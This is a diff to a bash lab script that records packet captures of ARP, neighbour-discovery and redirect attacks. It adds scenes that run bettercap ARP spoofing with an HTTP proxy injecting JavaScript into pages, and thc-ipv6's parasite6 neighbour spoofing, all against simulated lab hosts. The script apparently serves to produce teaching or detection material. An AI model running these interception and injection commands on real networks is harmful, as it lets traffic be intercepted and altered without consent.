@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # Records captures/wire: ARP, neighbour discovery, redirects, relayed frames. Usage: wire.sh [SCENE...]; without arguments all scenes.
-# Packages: lab.sh's, and dsniff ettercap-text-only thc-ipv6 keepalived iputils-arping nginx-light curl ndisc6 dnsmasq-base isc-dhcp-client.
+# Packages: lab.sh's, and dsniff ettercap-text-only thc-ipv6 keepalived iputils-arping nginx-light curl ndisc6 dnsmasq-base isc-dhcp-client bettercap.
 . "$(dirname "$0")/lab.sh"
 gw_mac=3c:52:82:11:00:01 rogue_mac=00:0c:29:6e:00:66
 
@@ -156,6 +156,38 @@ scene_gateway_redirects() {
   record_start
   lease pc
   browse 3
+}
+
+# bettercap from both sides; its own proxy takes what goes to port 80 and puts a script into every page.
+scene_bettercap_proxy() {
+  office
+  on rogue ip route add default via 10.3.0.1
+  echo '<html><head><title>hello</title></head><body>hello</body></html>' >"$lab_tmp/www/index.html"
+  record_start
+  browse 2
+  for address in 1 21; do try rogue ping -c1 -W1 10.3.0.$address; done
+  daemon rogue bettercap -iface eth0 -gateway-override 10.3.0.1 -no-colors -eval 'set arp.spoof.targets 10.3.0.21; set arp.spoof.fullduplex true;
+    set http.proxy.injectjs "alert(1)"; arp.spoof on; http.proxy on'
+  pause 5
+  browse 5
+  pause 1
+}
+
+# thc-ipv6 answers every neighbour solicitation with itself.
+scene_parasite6() {
+  lab_host gw $gw_mac 2001:db8:3::1/64
+  lab_host pc 3c:52:82:11:00:21 2001:db8:3::21/64
+  lab_host nas 00:11:32:aa:00:06 2001:db8:3::6/64
+  lab_host rogue $rogue_mac 2001:db8:3::66/64
+  record_start
+  for t in 1 6; do try pc ping -6 -c2 -i0.3 -W1 2001:db8:3::$t; done
+  daemon rogue atk6-parasite6 -l eth0
+  pause 2
+  for _ in 1 2 3; do
+    for h in pc gw nas; do on $h ip -6 neigh flush all 2>/dev/null || true; done
+    for t in 1 6; do try pc ping -6 -c2 -i0.3 -W1 2001:db8:3::$t; done
+  done
+  pause 2
 }
 
 run_scenes wire "$@"
